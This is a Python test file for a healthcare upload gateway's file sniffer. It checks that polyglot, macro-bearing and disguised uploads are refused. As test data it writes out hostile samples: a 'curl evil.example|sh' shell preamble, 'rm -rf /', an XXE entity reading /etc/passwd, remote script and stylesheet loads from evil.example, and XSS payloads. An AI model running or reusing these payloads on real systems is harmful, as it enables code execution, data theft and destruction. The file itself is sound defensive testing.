    ("docx-with-vba", office_zip([("word/vbaProject.bin", b"\x00" * 10)]), "letter.docx"),
    ("ooxml-other-main", docx("application/vnd.ms-excel.addin.macroEnabled.main+xml"), "x.xlsx"),
    ("odf-graphics", odf("application/vnd.oasis.opendocument.graphics"), "x.odg"),
    ("mimetype-html", odf("text/html"), "x.odt"),
    ("ole2-unknown", ole2("\x05SummaryInformation"), "setup.msi"),
    ("ole2-no-name", ole2(), None),
    ("ole2-macros", ole2("WordDocument", "_VBA_PROJECT"), "letter.doc"),
    ("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "scan.pdf"),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04", "x.docx"),
    ("riff-other", riff(b"CDDA"), "x.wav"),
    ("ftyp-unknown", ftyp(b"abcd", b"efgh"), "x.mp4"),
    ("ftyp-too-small", b"\x00\x00\x00\x08ftyp", "x.mp4"),
    ("ogg-unknown", ogg(b"\x00unknown"), "x.ogg"),
    ("ebml-unknown", ebml(b"evil"), "x.webm"),
    ("legacy-atom-unknown-name", b"\x00\x00\x00\x08wide\x00\x01\x00\x00mdat", "x.bin"),
    ("bm-text", b"BMW service notes\n", "x.bmp"),
    ("ff-garbage", b"\xff\xff\xff\xff", "song.mp3"),
    ("mp3-bad-second-frame", mp3_frames(1) + b"<html>" * 10, "song.mp3"),
    ("id3-bad-version", b"ID3\x09\x00\x00\x00\x00\x00\x00" + b"<html>", "song.mp3"),
    ("mpeg-layer1", b"\xff\xfe\x30\x00" + b"\x00" * 400, "x.mp3"),
    ("ts-broken", (b"\x47" + b"\x00" * 187) * 2 + b"\x48" + b"\x00" * 300, "x.ts"),
    # DICOM polyglots (CVE-2019-11687): a program, a script or a web page in the preamble
    ("dicom-pe-preamble", dicom(pe_header()), "image.dcm"),
    ("dicom-pe-preamble-as-exe", dicom(pe_header()), "viewer.exe"),
    ("dicom-elf-preamble", dicom(elf_header()), "image.dcm"),
    ("dicom-shell-preamble", dicom(b"#!/bin/sh\ncurl evil.example|sh\nexit 0\n".ljust(128, b"\x00")),
     "image.dcm"),
    ("dicom-html-preamble", dicom(b"<html><script>alert(1)</script>".ljust(128, b" ")), "x.dcm"),
    ("dicom-pdf-preamble", dicom(b"%PDF-1.4\n".ljust(128, b"\x00")), "x.dcm"),
    ("dicom-jpeg-preamble", dicom(jpeg().ljust(128, b"\x00")), "x.dcm"),
    ("dicom-zip-preamble", dicom(b"PK\x03\x04".ljust(128, b"\x00")), "x.dcm"),
    ("dicom-spaces-preamble", dicom(b" " * 128), "x.dcm"),
    ("dicom-zeros-then-html", dicom((b"\x00" * 8 + b"<svg onload=alert(1)>").ljust(128, b"\x00")),
     "x.dcm"),
    ("dicom-zeros-then-pdf", dicom((b"\x00" * 8 + b"%PDF-1.4\n").ljust(128, b"\x00")), "x.dcm"),
    ("dicom-zeros-then-zip", dicom((b"\x00" * 8 + b"PK\x03\x04").ljust(128, b"\x00")), "x.dcm"),
    ("dicom-seven-zeros-then-pe", dicom(b"\x00" * 7 + pe_header()[:121]), "x.dcm"),
    ("dicom-tiff-preamble-with-html", dicom(b"II*\x00\x08\x00\x00\x00<svg onload=alert(1)>"
                                            .ljust(128, b"\x00")), "x.dcm"),
    ("dicom-tiff-preamble-with-pdf", dicom(b"MM\x00*\x00\x00\x00\x08%PDF-1.4".ljust(128, b"\x00")),
     "x.dcm"),
    # DICOM whose file meta information is not sound
    ("dicom-magic-only", b"\x00" * 128 + b"DICM", "x.dcm"),
    ("dicom-old-sample", b"\x00" * 128 + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00" + b"\x00" * 16,
     "x.dcm"),
    ("dicom-meta-html", b"\x00" * 128 + b"DICM<html><script>alert(1)</script></html>", "x.dcm"),
    ("dicom-bad-version", dicom(meta=file_meta(version=b"\x00\x02")), "x.dcm"),
    ("dicom-bad-transfer-syntax", dicom(meta=file_meta(b"<script>")), "x.dcm"),
    ("dicom-group-length-short", dicom(meta=file_meta(length_fix=-10)), "x.dcm"),
    ("dicom-group-length-long", dicom(meta=file_meta(length_fix=+6)), "x.dcm"),
    ("dicom-no-transfer-syntax", dicom(meta=meta_of(element(2, 1, b"OB", b"\x00\x01"))), "x.dcm"),
    ("dicom-no-version", dicom(meta=meta_of(element(2, 0x10, b"UI", EXPLICIT_LE))), "x.dcm"),
    ("dicom-no-group-length", dicom(meta=element(2, 1, b"OB", b"\x00\x01")
                                    + element(2, 0x10, b"UI", EXPLICIT_LE)), "x.dcm"),
    ("dicom-implicit-meta", b"\x00" * 128 + b"DICM" + struct.pack("<HHI", 2, 0, 4) + b"\x10\x00\x00\x00"
     + dataset(explicit=False), "x.dcm"),
    ("dicom-no-preamble-garbage", b"\x08\x00\x05\x00" + b"\xff" * 200, "x.dcm"),
    ("dicom-no-preamble-descending", element(8, 0x20, b"DA", b"20260301")
     + element(8, 0x16, b"UI", CT_IMAGE) + element(8, 0x60, b"CS", b"CT"), "x.dcm"),
    ("dicom-no-preamble-bad-uid", element(8, 5, b"CS", b"ISO_IR 100")
     + element(8, 0x16, b"UI", b"<svg/onload=x>") + element(8, 0x60, b"CS", b"CT"), "x.dcm"),
    # PDFs behind something other than a line of text
    ("pdf-after-script", b"#!/bin/sh\necho hi\n%PDF-1.7\n", "scan.pdf"),
    ("pdf-after-postscript", b"%!PS-Adobe-3.0\n%PDF-1.7\n", "scan.pdf"),
    ("pdf-after-svg", b"<svg onload=alert(1)>\n%PDF-1.7\n", "scan.pdf"),
    ("pdf-after-binary", b"\x00\x01\x02\x03" + b"%PDF-1.7\n", "scan.pdf"),
    ("pdf-header-too-late", b"x" * 1100 + b"\n%PDF-1.7\n", "scan.pdf"),
    # look-alikes of the healthcare formats
    ("hl7-with-script", HL7_ORU + b"NTE|2||<script>alert(1)</script>\r", "result.hl7"),
    ("hl7-then-html", HL7_ORU + b"<html><body>x</body></html>\r\n", "result.hl7"),
    ("msh-then-garbage", b"MSH|^~\\&|A\rnot a segment at all\rPID|1\r", "x.hl7"),
    ("cda-doctype", cda(prolog='<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'),
     "x.xml"),
    ("cda-xhtml", cda(root_attrs=' xmlns:h="http://www.w3.org/1999/xhtml"',
                      body="<h:script>alert(1)</h:script>"), "x.xml"),
    ("cda-svg", cda(body='<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), "x.xml"),
    ("cda-javascript-link", cda(body='<linkHtml href="javascript:alert(1)">x</linkHtml>'), "x.xml"),
    ("cda-remote-stylesheet", cda(prolog='<?xml-stylesheet type="text/xsl" '
                                          'href="https://evil.example/cda.xsl"?>\n'), "x.xml"),
    ("cda-wrong-namespace", cda().replace(b'xmlns="urn:hl7-org:v3"', b'xmlns="urn:evil"'), "x.xml"),
    ("xml-not-cda", b'<?xml version="1.0"?>\n<note><to>Ward 7</to></note>\n', "note.xml"),
    ("json-not-fhir", b'{"name": "Jane", "dose": "<5 mg"}\n', "data.json"),
    ("json-fhir-broken", b'{"resourceType": "Patient", "id": ', "p.json"),
    ("json-array", b'[{"resourceType": "Patient"}]', "p.json"),
    ("eml-html-only", HTML, "referral.eml"),
    ("eml-no-headers", b"Dear colleague,\r\nplease see Jane Doe.\r\n", "referral.eml"),
    ("eml-one-header", b"Subject: hi\r\n\r\nbody\r\n", "referral.eml"),
    ("eml-content-without-eml-name", eml(), "referral.txt.html"),
    ("asf-broken", ASF_HEADER_GUID + b"\x00" * 14, "x.wma"),
    ("jp2-signature-only", b"\x00\x00\x00\x0cjP  \r\n\x87\n", "x.jp2"),
    ("jp2-unknown-brand", jp2(b"evil"), "x.jp2"),
    ("j2c-bad-siz", b"\xff\x4f\xff\x51\x00\x05" + b"\x00" * 40, "x.j2k"),
    # real markup in notes and tables is still refused
    ("txt-closing-tag", b"see below</p>\n", "note.txt"),
    ("txt-self-closing", b"line<br/>line\n", "note.txt"),
    ("txt-event-handler", b"Symptoms <b onmouseover=alert(1)>x\n", "note.txt"),
    ("txt-svg-slash", b"a <svg/onload=alert(1)>\n", "note.txt"),
    ("txt-img-slash", b"a <img/src=x/onerror=alert(1)>\n", "note.txt"),
    ("txt-quoted-attribute", b'text <div class="x">\n', "note.txt"),
    ("txt-script-newline", b"notes <script\nsrc=//evil.example/x.js></script>\n", "note.txt"),
    ("csv-iframe", b"a,b\n1,<iframe src=//evil.example>\n", "x.csv"),
    ("csv-body-tag", b"a,b\n1,<body>\n", "x.csv"),
]


@pytest.mark.parametrize(
    ("head", "filename"),
    [pytest.param(head, name, id=case) for case, head, name in REFUSED_SAMPLES],
)
def test_refused(head: bytes, filename: str | None) -> None:
    assert sniff(head, filename) is None


# -- inline types --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mime", "inline"),
    [
        (s.JPEG, True),
        (s.PNG, True),
        (s.GIF, True),
        (s.WEBP, True),
        (s.PDF, True),
        (s.MP4, True),
        (s.WEBM, True),
        (s.QUICKTIME, True),
        (s.MP3, True),
        (s.WAV, True),
        (s.OGG_AUDIO, True),
        ("IMAGE/JPEG", True),
        ("application/pdf; charset=binary", True),
        (s.TIFF, False),
        (s.DICOM, False),
        (s.DOCX, False),
        (s.DOC, False),
        (s.RTF, False),
        (s.TEXT, False),
        (s.CSV, False),
        ("text/html", False),
        ("image/svg+xml", False),
        ("application/javascript", False),
        ("", False),
    ],
)
def test_is_inline(mime: str, inline: bool) -> None:
    assert is_inline(mime) is inline


def test_inline_types_are_allowed_media_and_pdf_only() -> None:
    assert INLINE_TYPES <= ALLOWED_TYPES
    assert all(t.startswith(("image/", "audio/", "video/")) or t == s.PDF for t in INLINE_TYPES)
    assert s.TIFF not in INLINE_TYPES and s.DICOM not in INLINE_TYPES


def test_sniff_bytes() -> None:
    assert SNIFF_BYTES == 4096


# -- properties ----------------------------------------------------------------------------

_NAMES = st.one_of(
    st.none(),
    st.sampled_from(
        ["scan.pdf", "photo.jpg", "notes.txt", "a.csv", "x.docx", "x.doc", "x.mp4", "x.m4a",
         "x.mov", "x.webm", "x.html", "x.svg", ".txt", "txt", "dir/x.tsv", "C:\\x\\y.xls", ""]
    ),
    st.text(max_size=20),
)  # fmt: skip
_PREFIXES = st.sampled_from(
    [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"ID3", b"OggS", b"\x1a\x45\xdf\xa3",
     b"\x00\x00\x00\x18ftyp", b"RIFF", b"\xff\xfb", b"\xff\xf1", b"\x47", b"BM", b"\xef\xbb\xbf",
     b"\xff\xfe", b"ID3\x04\x00\x00\x00\x00\x00\x10"]
)  # fmt: skip


@settings(max_examples=1000)
@given(_PREFIXES, st.binary(max_size=600), _NAMES)
def test_arbitrary_bytes_never_crash(prefix: bytes, body: bytes, filename: str | None) -> None:
    result = sniff(prefix + body, filename)
    assert result is None or result in ALLOWED_TYPES


@given(_PREFIXES, st.binary(max_size=100), st.binary(max_size=1), st.binary(max_size=50), _NAMES)
def test_only_the_first_bytes_count(
    prefix: bytes, body: bytes, fill: bytes, extra: bytes, filename: str | None
) -> None:
    head = (prefix + body).ljust(SNIFF_BYTES, fill or b"\x00")[:SNIFF_BYTES]
    assert sniff(head + extra, filename) == sniff(head, filename)


@pytest.mark.parametrize("case", [c for c in ALLOWED_SAMPLES if len(c[1]) >= SNIFF_BYTES])
def test_long_samples_ignore_what_follows(case: tuple[str, bytes, str | None, str]) -> None:
    _, head, filename, expected = case
    assert sniff(head + b"<script>alert(1)</script>" * 10, filename) == expected


_MARKUP = st.sampled_from(
    ["<html>", "<!doctype html>", "<svg onload=x>", "<script>", "<?xml version='1.0'?>",
     "<iframe src=x>", "<img src=x onerror=y>", "<a href=x>", "javascript:x"]
)  # fmt: skip


@given(
    st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=200),
    _MARKUP,
    st.sampled_from(["notes.txt", "a.csv", "a.tsv", "scan.pdf", "photo.jpg", "x.docx", None]),
    st.sampled_from(["utf-8", "utf-16", "cp1252", "shift_jis", "gb18030"]),
)
def test_markup_in_text_is_always_refused(
    before: str, markup: str, filename: str | None, encoding: str
) -> None:
    assert sniff((before + markup).encode(encoding), filename) is None


# -- check_upload: reasons and names --------------------------------------------------------

from gateway.files.sniff import Verdict, check_upload, name_extension  # noqa: E402

PDF_HTML_POLYGLOT = b"%PDF-1.7\n<html><script>alert(document.domain)</script></html>\n"


@pytest.mark.parametrize(
    ("head", "filename", "reason"),
    [
        (b"", "scan.pdf", "empty"),
        (dicom(pe_header()), "image.dcm", "dicom_preamble"),
        (dicom(elf_header()), "image.dcm", "dicom_preamble"),
        (dicom(meta=file_meta(version=b"\x00\x02")), "image.dcm", "dicom_header"),
        (HTML, "notes.txt", "markup"),
        (b"#!/bin/sh\nrm -rf /\n", "notes.txt", "script"),
        (MZ, "photo.jpg", "program"),
        (ELF, "scan.pdf", "program"),
        (docx(DOCM_MAIN), "letter.docx", "office_macros"),
        (ole2("WordDocument", "_VBA_PROJECT"), "letter.doc", "office_macros"),
        (cda(prolog="<!DOCTYPE x>\n"), "x.xml", "xml_active_content"),
        (HTML, "page.html", "unknown_type"),
        (office_zip([("a.txt", b"x")]), "a.zip", "unknown_type"),
    ],
)
def test_refusals_carry_a_reason_and_a_plain_message(head: bytes, filename: str, reason: str) -> None:
    verdict = check_upload(head, filename)
    assert not verdict.accepted and verdict.content_type is None
    assert verdict.reason == reason
    assert 20 < len(verdict.message) <= 300 and verdict.message.endswith(".")


@pytest.mark.parametrize("ext", ["hta", "html", "htm", "exe", "js", "svg", "zip", "scr", "lnk",
                                 "bat", "ps1", "vbs", "jar", "appref-ms", "settingcontent-ms",
                                 "bin", "docx", "txt"])
def test_pdf_polyglot_under_a_contradicting_name_is_refused(ext: str) -> None:
    assert sniff(PDF_HTML_POLYGLOT, f"letter.{ext}") == s.PDF  # the bytes alone say PDF
    verdict = check_upload(PDF_HTML_POLYGLOT, f"letter.{ext}")
    assert verdict.reason == "extension_mismatch"
    assert f'ends in ".{ext}"' in verdict.message and "end in .pdf" in verdict.message


@pytest.mark.parametrize(
    "filename",
    [
        "letter.exe.", "letter.exe ", "letter.exe . .", "letter\uff0eexe", "letter.\uff45\uff58\uff45",
        "LETTER.HTA", "dir/letter.js", "C:\\Users\\x\\letter.svg", "letter.pdf.html",
        "letter.exe::$DATA", ".hta",
    ],
)
def test_disguised_extensions_are_read_like_windows_reads_them(filename: str) -> None:
    assert check_upload(b"%PDF-1.7\n", filename).reason == "extension_mismatch"


@pytest.mark.parametrize(
    ("head", "filename", "expected"),
    [
        (b"%PDF-1.7\n", "scan.pdf", s.PDF),
        (b"%PDF-1.7\n", "SCAN.PDF", s.PDF),
        (b"%PDF-1.7\n", "scan", s.PDF),  # no extension: nothing opens it by itself
        (b"%PDF-1.7\n", "Befund 12.03.2024", s.PDF),  # a date, not an extension
        (b"%PDF-1.7\n", "Brief an Dr. Müller", s.PDF),  # words, not an extension
        (b"%PDF-1.7\n", "scan.pdf.", s.PDF),
        (jpeg(), "photo.png", s.JPEG),  # same picture viewer
        (jpeg(), "IMG_0001.JPEG", s.JPEG),
        (ftyp(b"qt  ", b"qt  "), "IMG_0002.mp4", s.QUICKTIME),
        (docx(), "letter.doc", s.DOCX),
        (b"{\\rtf1\\ansi Hello}", "letter.doc", s.RTF),
        (dicom(), "1.2.840.113619.2.55.3.604688119.868", s.DICOM),
        (dicom(), "IM_0001", s.DICOM),
        (dicom(), "CT000001.IMA", s.DICOM),
        (HL7_ORU, "ORU_20260301.hl7", s.HL7_V2),
        (cda(), "discharge.xml", s.CDA_XML),
        (fhir_patient(), "patient.fhir.json", s.FHIR_JSON),
        (eml(), "Referral Jane Doe.eml", s.EML),
        (asf(ASF_AUDIO), "dictation.WMA", s.WMA),
        (jp2(), "scan.jp2", s.JP2),
    ],
)
def test_names_that_agree_are_accepted(head: bytes, filename: str, expected: str) -> None:
    assert check_upload(head, filename) == Verdict(expected)


@pytest.mark.parametrize(
    ("head", "filename"),
    [
        (dicom(), "viewer.exe"),
        (dicom(), "image.html"),
        (jpeg(), "photo.svg"),
        (docx(), "letter.zip"),
        (HL7_ORU, "result.js"),
        (fhir_patient(), "patient.html"),
        (cda(), "discharge.svg"),
        (cda(), "discharge.hta"),
        (mp3_frames(), "song.exe"),
        (asf(ASF_VIDEO), "clip.html"),
    ],
)
def test_other_types_under_contradicting_names_are_refused(head: bytes, filename: str) -> None:
    assert sniff(head, filename) is not None
    assert check_upload(head, filename).reason == "extension_mismatch"


def test_every_type_names_its_usual_extension_among_its_own() -> None:
    from gateway.files.sniff.kinds import EXTENSIONS, USUAL_EXTENSION

    assert set(EXTENSIONS) == ALLOWED_TYPES == set(USUAL_EXTENSION)
    assert all(USUAL_EXTENSION[t] in EXTENSIONS[t] for t in ALLOWED_TYPES)
    programs = {"exe", "hta", "html", "htm", "js", "svg", "zip", "bat", "cmd", "scr", "msi"}
    assert not any(programs & EXTENSIONS[t] for t in ALLOWED_TYPES)


@pytest.mark.parametrize(
    ("filename", "ext"),
    [("a.PDF", "pdf"), ("a.pdf. ", "pdf"), ("a\uff0eexe", "exe"), ("a", ""), ("12.03.2024", ""),
     ("Dr. Müller", ""), ("a.b c", ""), (".hta", "hta"), ("", ""), (None, ""), ("x.tar.gz", "gz")],
)
def test_name_extension(filename: str | None, ext: str) -> None:
    assert name_extension(filename) == ext


@given(st.text(max_size=40))
def test_check_upload_of_any_name_never_crashes(filename: str) -> None:
    verdict = check_upload(b"%PDF-1.7\n", filename)
    assert verdict.content_type in (None, s.PDF)
    assert verdict.accepted or verdict.reason == "extension_mismatch"


_CLINICAL = st.sampled_from(
    ["Creatinine back <baseline", "Symptoms for <a week", "weight <body ideal", "BP <140/90",
     "HR >100", "<2 weeks", "eGFR <60 since <a month", "Na <135, K >5.5", "pain <b/l knees",
     "<i.v. fluids", "dose <5 mg", "sats <92% on air", "<p 0.05", "see <html help> page",
     "<script-writer> note", "x < y > z", "Dear <name>,", "<patient name> <date of birth>"]
)


@given(st.lists(_CLINICAL, min_size=1, max_size=12), st.sampled_from(["\n", "; ", ", ", "\r\n"]),
       st.sampled_from(["note.txt", "table.csv", "table.tsv"]))
def test_clinical_notes_with_less_than_signs_are_text(lines: list[str], sep: str, name: str) -> None:
    assert sniff(sep.join(lines).encode(), name) == s.TEXT_EXTENSIONS[name.rsplit(".", 1)[1]]


@pytest.mark.parametrize("mime", sorted(s.MARKUP_TYPES | {s.TEXT, s.CSV, s.TSV, s.WMA, s.WMV,
                                                          s.JP2, s.JPX, s.J2C, s.DICOM}))
def test_markup_like_and_undecodable_types_are_never_inline(mime: str) -> None:
    assert mime in ALLOWED_TYPES and not is_inline(mime)
